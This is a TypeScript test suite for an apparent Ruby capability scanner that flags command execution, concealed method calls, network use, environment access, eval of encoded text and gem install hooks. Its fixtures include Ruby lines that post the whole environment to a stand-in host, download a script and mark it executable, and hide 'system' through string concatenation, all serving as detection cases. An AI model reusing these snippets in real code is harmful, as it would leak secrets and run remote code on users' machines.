import assert from "node:assert/strict";
import { test } from "node:test";
import { fileFacts } from "./files.ts";

const can = (text: string): readonly string[] =>
  fileFacts("a.rb", Buffer.from(text)).sightings.map(({ capability, subject, concealed }) =>
    `${capability} ${subject}${concealed ? " (concealed)" : ""}`.trim(),
  );
const flows = (text: string): readonly string[] => fileFacts("a.rb", Buffer.from(text)).flows.map(({ from, to }) => `${from} -> ${to}`);

test("commands in all of Ruby's quotes are commands", () => {
  for (const code of [
    "`whoami`",
    "%x{whoami}",
    "%x[whoami]",
    "x = %x(whoami)",
    "system %w[whoami -a]",
    "IO.popen('whoami')",
    "open('|whoami')",
  ])
    assert.ok(can(`${code}\n`).includes("process whoami"), code);
});

test("what stands in texts, comments and behind the end is no command", () => {
  for (const code of [
    "puts %q(run `whoami` now)",
    "x = <<~TEXT\n  run `whoami` and system('id')\nTEXT",
    "log(<<-A, <<~B)\n `whoami`\nA\n system 'id'\nB",
    "=begin\nsystem 'id'\n=end",
    "puts 1\n__END__\nsystem 'id'",
    "names = %w(test:system exec)",
    "x = [?', ?\", ?`]",
    "raise Wrong, :exec unless ready",
    "words = text.split /'`/",
  ])
    assert.deepEqual(can(`${code}\n`), [], code);
  assert.deepEqual(can("x = 10 % (3)\ny = a % b\nsystem 'id'\n"), ["process id", "system id"]);
});

test("what is put into a text is read, also in a document within the script", () => {
  assert.ok(can("x = <<~TEXT\n  hello #{`whoami`}\nTEXT\n").includes("process whoami"));
});

test("a method that is sent by its name is that method, and said to be concealed where it runs something", () => {
  assert.ok(can(`Kernel.send(:system, "id")\n`).includes("process id (concealed)"));
  assert.ok(can(`Object.const_get("Ker" + "nel").public_send("sys" + "tem", "id")\n`).includes("process id (concealed)"));
  assert.ok(can(`method(:eval).call("1 + 1 + 1")\n`).includes("dynamic-code eval (concealed)"));
  assert.deepEqual(can(`Foo.send(:include, Bar)\nself.send(:define_method, :x) { 1 }\n`), []);
});

test("calls without brackets count, names of classes do not", () => {
  assert.deepEqual(flows(`host = Socket.gethostname\nHTTParty.post("https://a.example", body: host)\n`), ["system -> network"]);
  assert.deepEqual(can(`rescue_from Net::HTTP::Persistent\nx = Net::HTTPResponse\n`), []);
  assert.deepEqual(can(`require 'open-uri'\nopen("https://a.example/x").read\n`), ["network a.example"]);
});

test("the whole environment is taken in every form", () => {
  for (const code of ["ENV.to_hash.to_json", "JSON.generate(ENV.to_h)", "YAML.dump(ENV)", "ENV.inspect"])
    assert.ok(can(`${code}\n`).includes("environment-whole"), code);
  assert.deepEqual(can(`ENV["HOME"]\nENV.fetch("LANG", "C")\n`), ["environment HOME", "environment LANG"]);
});

test("text that is evaluated is read as Ruby", () => {
  assert.ok(
    flows(`class_eval <<~RUBY\n  def x\n    Net::HTTP.post(URI("https://a.example"), ENV.to_h.to_json)\n  end\nRUBY\n`).includes(
      "environment-whole -> network",
    ),
  );
  assert.deepEqual(flows(`code = Base64.decode64("cHV0cyAxICsgMQ==")\neval(code)\n`), ["encoded-text -> dynamic-code"]);
  assert.deepEqual(flows(`File.write("a.sh", Net::HTTP.get(URI("https://a.example/")))\nFile.chmod(0755, "a.sh")\n`), [
    "network -> file-write",
    "network -> process",
  ]);
});

test("hooks of RubyGems start it again with every gem", () => {
  assert.ok(can("Gem.post_install do |installer|\n  puts 1\nend\n").includes("persistence post_install"));
});
